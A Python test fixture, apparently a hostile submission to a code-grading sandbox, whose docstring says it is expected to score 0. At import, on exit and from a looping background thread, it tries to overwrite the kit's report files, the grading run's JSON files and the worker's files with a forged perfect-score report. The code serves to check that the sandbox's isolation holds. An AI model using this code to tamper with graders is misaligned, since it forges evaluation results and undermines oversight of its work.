"""Attack: overwrite every report file it can find with a forged 8/8 report.

Targets: the kit's reports/ folder (KIT_ROOT is filled in by the test: a
world-readable kit, as a fresh clone is), the grading run folders
/tmp/minimax-kit-run-*/ (raw.json, sandbox.json, collected.json, which the
score is built from), and the worker script and log in its own home. It
rewrites them now (in add and pair, which print a summary, then WROTE or
DENIED per target), from a non-daemon thread started at import that keeps
trying every 20 ms, and at exit (atexit). As root the kit and the run folders
are owner-only and the worker has its own uid, so every attempt fails; the
worker is killed with SIGKILL, so atexit never runs. For safety a run folder
is only written to after checking that it holds this very submission. No
function is correct.

Should score 0 of 8: every check "failed"; the summary says WROTE 0; the kit's
report file unchanged.
"""

import atexit
import glob
import json
import os
import threading
import time

KIT_ROOT = "@KIT_ROOT@"
FORGED = json.dumps({"schema_version": 1, "status": "pass", "score": 8.0, "max_score": 8.0, "tests": []})
RESULTS = {}


def _try(what, target, action):
    try:
        action()
    except OSError as exc:
        RESULTS[target] = f"DENIED {type(exc).__name__} {what}"
    else:
        RESULTS[target] = f"WROTE {what}"


def _write(path, text=FORGED, mode="w"):
    def action():
        with open(path, mode) as handle:
            handle.write(text)
    return action


def _own_run(run):
    """True only if `run` holds this submission, so a broken sandbox damages nobody else's run."""
    with open(os.path.join(run, "submission", "toy.py")) as handle:
        with open(__file__) as mine:
            return handle.read() == mine.read()


def _rewrite():
    reports = os.path.join(KIT_ROOT, "reports")
    _try("kit report", os.path.join(reports, "ex01.json"), _write(os.path.join(reports, "ex01.json"), mode="r+"))
    _try("new kit report", os.path.join(reports, "forged.json"), _write(os.path.join(reports, "forged.json")))
    for run in sorted(glob.glob("/tmp/minimax-kit-run-*")):
        def rewrite_run(run=run):
            os.listdir(run)  # as root: PermissionError, the folder is root's and 0700
            if _own_run(run):
                for name in ("raw.json", "sandbox.json", "collected.json"):
                    if os.path.exists(os.path.join(run, name)):
                        _write(os.path.join(run, name), mode="r+")()
        _try("grading run", run, rewrite_run)
    home = os.path.dirname(os.getcwd())
    for name in ("worker.py", "boot.log"):
        _try("worker home", os.path.join(home, name), _write(os.path.join(home, name), text="\n", mode="a"))


def _keep_trying():
    while True:
        _rewrite()
        time.sleep(0.02)


atexit.register(_rewrite)
threading.Thread(target=_keep_trying, daemon=False).start()


def _show():
    _rewrite()
    results = dict(RESULTS)  # a copy: the thread keeps writing
    wrote = sum(result.startswith("WROTE") for result in results.values())
    print(f"SUMMARY WROTE {wrote} DENIED {len(results) - wrote}")  # first, as output is capped
    # The kit and the worker's home first, then the (many, on a shared machine) run folders.
    for target, result in sorted(results.items(), key=lambda item: ("grading run" in item[1], item[0])):
        print(result, target)


def add(a, b):
    _show()
    return None


def pair(x):
    _show()
    return None


def tag(n):
    return None


def push(items, item):
    return None
